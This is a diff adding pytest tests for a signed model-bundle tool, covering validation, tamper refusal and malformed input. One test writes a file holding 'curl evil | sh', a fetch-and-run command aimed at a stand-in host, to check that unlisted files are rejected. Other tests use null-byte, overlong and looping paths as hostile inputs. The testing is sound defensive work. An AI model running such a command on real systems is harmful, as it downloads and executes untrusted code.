@@ -32,7 +32,7 @@ def test_validate_bench_predict_pass(bundle, keys, tmp_path):
     assert rep["ok"] and a["accuracy"] > 0.6 and a["accuracy"] == pytest.approx(a["host_accuracy"])
     cmd = [ln for ln in (bundle / "build_engine.sh").read_text().splitlines() if ln.startswith("trtexec")]
     assert len(cmd) == 1 and "--fp16" in cmd[0] and "force" not in cmd[0]
-    r = _run("bench", bundle, "--iterations", "5", "--batch", "8")
+    r = _run("bench", bundle, "--iterations", "5", "--batch", "8", "--public-key", keys[0][1])
     assert r.returncode == 0 and "p99" in r.stdout
     from PIL import Image
 
@@ -43,7 +43,7 @@ def test_validate_bench_predict_pass(bundle, keys, tmp_path):
         p = tmp_path / f"{i}.png"
         Image.fromarray(img.transpose(1, 2, 0)).save(p)
         paths.append(p)
-    r = _run("predict", bundle, *paths)
+    r = _run("predict", bundle, *paths, "--public-key", keys[0][1])
     assert r.returncode == 0
     assert [line.split("\t")[1] for line in r.stdout.strip().splitlines()] == [str(v) for v in y]
 
@@ -119,7 +119,7 @@ def test_bad_input_exit_2(tmp_path, bundle):
     r = _run("validate", bundle, "--public-key", tmp_path / "missing.pub")
     assert r.returncode == 2 and "not found" in r.stderr
     r = _run("validate", bundle, "--allow-unsigned", "--backend", "tensorrt")
-    assert r.returncode == 2 and "TensorRT" in r.stderr
+    assert r.returncode == 2 and "--engine" in r.stderr and r.stderr.startswith("error:")
 
 
 def test_truncated_engine_refused(bundle, keys, tmp_path):
@@ -168,3 +168,76 @@ def test_export_guard_refuses_parametrized_model(tmp_path):
     with pytest.raises(ExportError, match="weight_orig|_mask"):
         export_onnx(m, {}, tmp_path / "m.onnx")
     assert torch.is_tensor(m.head[2].weight)
+
+
+def test_protection_is_stated_first(bundle, keys):
+    r = _run("validate", bundle, "--public-key", keys[0][1])
+    first = r.stdout.splitlines()[0]
+    assert r.returncode == 0 and "protection" in first and "magnitude" in first and "pruned" in first
+
+
+def test_unprotected_bundle_says_so(mnist_model, keys, tmp_path):
+    out = tmp_path / "plain"
+    build(mnist_model, out, target="cpu", sign_key=keys[0][0], samples=50)
+    r = _run("validate", out, "--public-key", keys[0][1], "--report", tmp_path / "r.json")
+    assert "NOTE  protection   none: this model is not protected" in r.stdout.splitlines()[0]
+    assert json.loads((tmp_path / "r.json").read_text())["protected"] is False
+
+
+def test_unlisted_file_fails_validation(bundle, keys, tmp_path):
+    b = _copy(bundle, tmp_path)
+    (b / "evil.sh").write_text("curl evil | sh\n")
+    r = _run("validate", b, "--public-key", keys[0][1])
+    assert r.returncode == 1 and "evil.sh" in r.stderr and len(r.stderr.splitlines()) == 1
+    (b / "evil.sh").unlink()
+    (b / "model.engine").write_bytes(b"\0" * 2048)  # the device's own engine is allowed by name
+    assert _run("validate", b, "--public-key", keys[0][1]).returncode == 0
+
+
+def test_bench_and_predict_refuse_a_tampered_bundle(bundle, keys, tmp_path):
+    b = _copy(bundle, tmp_path)
+    data = bytearray((b / "model.onnx").read_bytes())
+    data[-100] ^= 0xFF
+    (b / "model.onnx").write_bytes(bytes(data))
+    for cmd in (["bench", b, "--iterations", "2"], ["predict", b, tmp_path / "x.png"]):
+        r = _run(*cmd, "--public-key", keys[0][1])
+        assert r.returncode == 1 and "model.onnx" in r.stderr
+    r = _run("bench", bundle, "--iterations", "2")
+    assert r.returncode == 2 and "--public-key" in r.stderr  # unsigned only when asked for
+
+
+def test_engine_without_tensorrt_is_a_failed_check(bundle, keys, tmp_path):
+    from runtime.backends import tensorrt_backend
+
+    if tensorrt_backend.is_available():
+        pytest.skip("TensorRT is present here")
+    eng = tmp_path / "model.engine"
+    eng.write_bytes(b"\x01" * 4096)
+    r = _run("validate", bundle, "--public-key", keys[0][1], "--engine", eng)
+    assert r.returncode == 1 and "TensorRT" in r.stderr and "PASSED" not in r.stdout
+
+
+def test_runtime_bad_input_is_one_line_exit_2(bundle, keys, tmp_path):
+    cases = [["bench", bundle, "--iterations", "0", "--allow-unsigned"],
+             ["bench", bundle, "--batch", "-1", "--allow-unsigned"],
+             ["validate", bundle, "--public-key", tmp_path],
+             ["validate", bundle, "--public-key", keys[0][1], "--report", tmp_path]]
+    folder = _copy(bundle, tmp_path / "folder")
+    (folder / "manifest.json").unlink()
+    (folder / "manifest.json").mkdir()
+    cases.append(["validate", folder, "--allow-unsigned"])
+    for args in cases:
+        r = _run(*args)
+        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and "Traceback" not in r.stderr, args
+    loop = _copy(bundle, tmp_path / "loop")
+    (loop / "model.onnx").unlink()
+    (loop / "model.onnx").symlink_to("model.onnx")
+    r = _run("validate", loop, "--allow-unsigned")
+    assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1 and "Traceback" not in r.stderr
+    for bad in ("a\u0000b.npz", "n" * 5000):
+        b = _copy(bundle, tmp_path / f"n{len(bad)}")
+        m = json.loads((b / "manifest.json").read_text())
+        m["files"][0]["path"] = bad
+        (b / "manifest.json").write_text(json.dumps(m))
+        r = _run("validate", b, "--allow-unsigned")
+        assert r.returncode == 2 and ("safe file name" in r.stderr or "string" in r.stderr), r.stderr
